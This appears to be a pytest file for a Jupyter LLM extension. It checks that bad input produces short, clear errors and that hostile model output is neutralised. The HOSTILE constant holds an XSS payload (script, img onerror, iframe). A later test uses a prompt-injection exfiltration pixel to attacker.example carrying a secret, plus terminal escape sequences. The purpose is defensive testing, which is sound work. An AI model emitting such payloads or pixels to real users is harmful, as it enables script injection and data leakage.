"""Bad input through ask() and %%llm in a real kernel: a clear message, never a traceback wall.

Covers what test_api.py and test_magics.py do not: malformed magic lines, odd model names,
prompts that are empty, several MB long or not valid text, ``max_tokens`` past the model's
context, thinking asked of a model that cannot, and model output carrying HTML that must
never run in the page (the emulator quotes the prompt in its answer, so a prompt with
``<script>`` makes the model write ``<script>``).
"""
from __future__ import annotations

import re

import pytest
from markdown_it import MarkdownIt
from support import Kernel, kernel_environment, kernel_value as value, raw_html

import jupyter_llm
from jupyter_llm import errors
from jupyter_llm.core.session import catalog

pytestmark = pytest.mark.timeout(180)

MODEL = "qwen72b-awq"  # 16K context, no thinking
HOSTILE = "<script>alert(1)</script><img src=x onerror=alert(2)><iframe src=x><!--"
LIVE_TAG = re.compile(r"<\s*(script|img|iframe|!--)", re.IGNORECASE)


def chat_requests(emulator) -> list[dict]:
    return [r for r in emulator.requests if r["path"].endswith("/chat/completions")]


# -- ask() ------------------------------------------------------------------------------

@pytest.mark.parametrize("prompt, says", [
    ("", "empty"), ("  \n\t", "empty"), (b"", "empty"), (None, "must be text (str), not NoneType"),
    (42, "must be text (str), not int"),
])
def test_empty_or_non_text_prompt_is_refused_before_sending(llm, emulator, prompt, says):
    with pytest.raises(errors.ConfigError, match=re.escape(says)):
        jupyter_llm.ask(prompt, model=MODEL, display=False)
    assert not chat_requests(emulator)


def test_bytes_that_are_not_utf8_are_replaced_and_noted(llm, emulator, capsys):
    reply = jupyter_llm.ask(b"Caf\xe9 au lait, \xff please.", model=MODEL, display=False)
    assert reply.complete
    assert chat_requests(emulator)[-1]["body"]["messages"][-1]["content"] == "Caf\ufffd au lait, \ufffd please."
    assert "not valid UTF-8: 2 invalid byte sequence(s) replaced" in capsys.readouterr().err
    jupyter_llm.ask("Café, déjà vu, 你好".encode(), model=MODEL, display=False)
    assert chat_requests(emulator)[-1]["body"]["messages"][-1]["content"] == "Café, déjà vu, 你好"
    assert capsys.readouterr().err == "", "valid UTF-8 needs no note"


def test_lone_surrogates_are_replaced_and_noted(llm, emulator, capsys):
    # A pair written as two code points is one character and goes out whole.
    reply = jupyter_llm.ask("Lone \udce9 here, pair \ud83d\ude00 there", model=MODEL, display=False,
                            system="Be brief \ud800.")
    assert reply.complete
    messages = chat_requests(emulator)[-1]["body"]["messages"]
    assert messages[-1]["content"] == "Lone \ufffd here, pair \U0001F600 there"
    assert messages[0]["content"] == "Be brief \ufffd."
    assert "lone surrogate(s), which are not text: replaced" in capsys.readouterr().err


def test_a_prompt_of_several_mb_goes_out_and_the_server_refuses_it_clearly(llm, emulator):
    """The client sends it (a local token estimate would be a guess); the gateway's 400 becomes
    ContextTooLong with both sizes, in a message that does not repeat the prompt."""
    prompt = "The quick brown fox jumps over the lazy dog. " * 100_000  # 4.5 MB
    with pytest.raises(errors.ContextTooLong) as caught:
        jupyter_llm.ask(prompt, model="qwq-32b-128k", display=False)
    error = caught.value
    assert error.limit == 131072 and error.requested > 131072
    assert "Shorten the prompt" in str(error) and len(str(error)) < 600
    assert len(chat_requests(emulator)) == 1, "a refusal that will not change is not retried"
    assert len(chat_requests(emulator)[0]["body"]["messages"][0]["content"]) == len(prompt)


@pytest.mark.parametrize("where", ["argument", "session"])
def test_max_tokens_past_the_context_is_refused_before_sending(llm, emulator, where):
    assert catalog()[MODEL].context == 16384
    kwargs = {"max_tokens": 20000}
    if where == "session":
        llm.max_tokens, kwargs = 20000, {}
    with pytest.raises(errors.ContextTooLong) as caught:
        jupyter_llm.ask("hi", model=MODEL, display=False, **kwargs)
    message = str(caught.value)
    assert "max_tokens=20,000" in message and "16,384" in message and "--max-tokens" in message
    assert (caught.value.limit, caught.value.requested) == (16384, 20000)
    assert not chat_requests(emulator)


@pytest.mark.parametrize("bad", [0, -5, 2.5, "100"])
def test_max_tokens_that_is_not_a_count_is_refused_before_sending(llm, emulator, bad):
    with pytest.raises(errors.ConfigError, match="max_tokens must be a whole number"):
        jupyter_llm.ask("hi", model=MODEL, display=False, max_tokens=bad)
    assert not chat_requests(emulator)


def test_max_tokens_within_the_context_still_reaches_the_gateway(llm, emulator):
    reply = jupyter_llm.ask("hi", model=MODEL, display=False, max_tokens=16000)
    assert reply.complete and chat_requests(emulator)[-1]["body"]["max_tokens"] == 16000


@pytest.mark.parametrize("name, close", [("QWEN3-32B", "qwen3-32b"), ("qwen-72b-awq", "qwen72b-awq"),
                                         ("gpt-4o", None)])
def test_unknown_model_lists_close_matches_or_every_model(llm, emulator, name, close):
    with pytest.raises(errors.ModelNotFound) as caught:
        jupyter_llm.ask("hi", model=name, display=False)
    message = str(caught.value)
    if close:
        assert f"Did you mean {close!r}" in message
    assert "Models served: " in message and "qwq-32b" in caught.value.available
    # The way out (the names) before the gateway's own words, and said once.
    assert message.index("Models served: ") < message.index("It said") and message.count("no model") == 1
    assert len(chat_requests(emulator)) == 1


def test_hostile_model_output_is_kept_as_written_in_the_reply(llm):
    reply = jupyter_llm.ask(HOSTILE, model=MODEL, display=False)
    assert "<script>alert(1)</script>" in reply.content, "the emulator quotes the prompt"


def test_displaying_a_reply_object_does_not_send_live_html(llm):
    reply = jupyter_llm.ask(HOSTILE, model=MODEL, display=False)
    assert not raw_html(reply._repr_mimebundle_()["text/markdown"])


# -- %%llm in one real kernel -----------------------------------------------------------

@pytest.fixture(scope="module")
def k(emulator, tmp_path_factory):
    kernel = Kernel(kernel_environment(emulator.url, tmp_path_factory.mktemp("bad_input") / "config.toml"))
    kernel.run("%load_ext jupyter_llm\nimport json, jupyter_llm")
    yield kernel
    kernel.shutdown()


@pytest.fixture
def kk(k, emulator):
    """The shared kernel with fresh settings and no reply kept; the emulator log cleared."""
    result = k.run("jupyter_llm.session.reload()\n_llm = None")
    assert result.error is None, result.error
    emulator.reset()
    return k


def stream_text(result, name="stderr") -> str:
    return "".join(m["content"]["text"] for m in result.messages
                   if m["msg_type"] == "stream" and m["content"]["name"] == name)


def usage_error(result) -> str:
    """IPython shows a UsageError as one stderr line, without a traceback, and fails the cell."""
    assert result.reply["status"] == "error" and result.error is None
    return stream_text(result)


def short_error(result, ename: str) -> str:
    error = result.error
    assert error is not None and error["ename"] == ename, error
    assert len(error["traceback"]) == 1, "one line, not a traceback wall"
    return error["traceback"][0]


@pytest.mark.parametrize("line, says", [
    ("-m", "argument -m/--model: expected one argument"),
    ("-t hot", "argument -t/--temperature: invalid float value: 'hot'"),
    ("--max-tokens lots", "argument --max-tokens: invalid int value: 'lots'"),
    ('-s "unclosed system prompt', "Cannot read the options (No closing quotation): close the quote"),
    ("-m qwen3-32b please answer", "unrecognized arguments: please answer"),
    ("-o 1st", "-o 1st: the name must be a Python variable name"),
])
def test_malformed_magic_line_is_a_usage_message(kk, emulator, line, says):
    text = usage_error(kk.run(f"%%llm {line}\nhi"))
    assert text.startswith("UsageError: ") and says in text and len(text.strip().splitlines()) == 1
    assert not chat_requests(emulator)


def test_missing_names_are_left_as_written_with_a_one_line_note(kk, emulator):
    kk.run("city = 'Lyon'\nclass Frame: shape = (3, 2)\ndf = Frame()")
    emulator.reset()
    result = kk.run(f"%%llm -m {MODEL}\nAbout {{city}}, {{df.shape}}, {{df.columns}} and {{nope[0]}}.")
    assert result.error is None, result.error
    assert chat_requests(emulator)[-1]["body"]["messages"][-1]["content"] == (
        "About Lyon, (3, 2), {df.columns} and {nope[0]}.")
    assert result.notes() == "jupyter-llm: no variable for {df.columns}, {nope[0]}; left as written.\n"
    assert stream_text(result) == "", "a note is a grey line, not red stderr"


def test_think_on_a_model_without_thinking_is_refused_before_sending(kk, emulator):
    text = short_error(kk.run(f"%%llm -m {MODEL} --think\nhi"), "CapabilityError")
    assert "does not think" in text and "drop --think" in text
    assert not chat_requests(emulator)


def test_max_tokens_past_the_context_in_a_cell(kk, emulator):
    text = short_error(kk.run(f"%%llm -m {MODEL} --max-tokens 99999\nhi"), "ContextTooLong")
    assert "16,384" in text and "--max-tokens" in text
    assert not chat_requests(emulator)


def test_a_cell_of_several_mb_fails_in_one_line_without_echoing_it(kk, emulator):
    cell = "The quick brown fox jumps over the lazy dog. " * 60_000  # 2.7 MB
    result = kk.run(f"%%llm -m {MODEL}\n{cell}", timeout=120)
    text = short_error(result, "ContextTooLong")
    assert "limit 16,384 tokens" in text and "Shorten the prompt" in text
    assert len(result.text()) < 20_000, "the prompt is not sent back to the front end"
    assert len(chat_requests(emulator)) == 1


def test_lone_surrogates_in_a_cell_are_replaced_with_a_note(kk, emulator):
    # A cell sent by a front end cannot carry them; text pasted through code can.
    result = kk.run(f"get_ipython().run_cell_magic('llm', '-m {MODEL}', 'Caf\\udce9 au lait')")
    assert result.error is None, result.error
    assert chat_requests(emulator)[-1]["body"]["messages"][-1]["content"] == "Caf\ufffd au lait"
    assert "lone surrogate(s)" in result.notes()
    assert value(kk, "_llm.complete") is True


def test_model_written_html_never_reaches_the_page_live(kk, emulator):
    # Paced (about a second), so the live widget view shows the reply before the final outputs.
    kk.run("jupyter_llm.session.extra_headers = {'X-Emulator': 'rate=100'}")
    result = kk.run(f"%%llm -m {MODEL} -o hostile\n{HOSTILE}")
    assert result.error is None, result.error
    assert "<script>alert(1)</script>" in value(kk, "hostile.content"), "the model did write it"
    front_end = [m for m in result.messages
                 if m["msg_type"] in ("display_data", "update_display_data", "comm_open", "comm_msg")]
    live = result.live_strings()
    assert any("alert(1)" in text for text in live), "the live widget view showed the reply"
    for text in live:
        assert not LIVE_TAG.search(text), text[:200]

    def rich_strings(node, key=None):
        if isinstance(node, dict):
            for name, item in node.items():
                if name != "text/plain":  # plain text is shown as text
                    yield from rich_strings(item, name)
        elif isinstance(node, list):
            for item in node:
                yield from rich_strings(item, key)
        elif isinstance(node, str):
            yield key, node

    checked = 0
    for message in front_end:
        for key, text in rich_strings(message["content"]):
            assert not LIVE_TAG.search(text), (message["msg_type"], key, text[:200])
            if key == "text/markdown":
                assert not raw_html(text), text
            checked += 1
    assert checked
    markdown = [m["content"]["data"]["text/markdown"] for m in front_end
                if m["msg_type"] == "display_data" and "text/markdown" in m["content"]["data"]]
    assert markdown and "&lt;script>alert(1)&lt;/script>" in markdown[-1], "shown as text, not dropped"


def test_model_output_loads_no_remote_image_and_sends_no_terminal_escapes(kk, emulator):
    """A prompt-injected reply can write an exfiltration pixel, and escape sequences that a
    terminal front end acts on; the emulator quotes the prompt, so the model writes both."""
    exfil = "https://attacker.example/p.png?q=SECRET"
    prompt = f"![pixel]({exfil}) \x1b[31mred\x1b[0m \x1b]0;pwned\x07 ![dot](data:image/png;base64,iVBORw0KGgo=)"
    kk.run("jupyter_llm.session.extra_headers = {'X-Emulator': 'rate=200'}")
    result = kk.run(f"prompt = {prompt!r}\nr = jupyter_llm.ask(prompt, model={MODEL!r})")
    assert result.error is None, result.error
    assert exfil in value(kk, "r.content") and "\x1b[31m" in value(kk, "r.content"), "the model wrote them"
    sent = result.text()
    assert "\\u001b" not in sent and "\\u0007" not in sent, "no escape sequence reaches the front end"
    assert exfil in sent and not re.search(r'<img[^>]*src=\\?"https', sent), "the pixel is a link"
    markdown = [m["content"]["data"]["text/markdown"] for m in result.messages
                if m["msg_type"] == "display_data" and "text/markdown" in m["content"]["data"]]
    assert markdown and "<img" not in MarkdownIt("commonmark").render(markdown[-1]), "no image to load"
    kk.run("%llm_config remote_images=true")
    again = kk.run("r = jupyter_llm.ask(prompt + ' again', model='qwen72b-awq')")
    shown = [m["content"]["data"]["text/markdown"] for m in again.messages
             if m["msg_type"] == "display_data" and "text/markdown" in m["content"]["data"]]
    assert f"![pixel]({exfil})" in shown[-1], "allowed by the setting, the image is Markdown again"
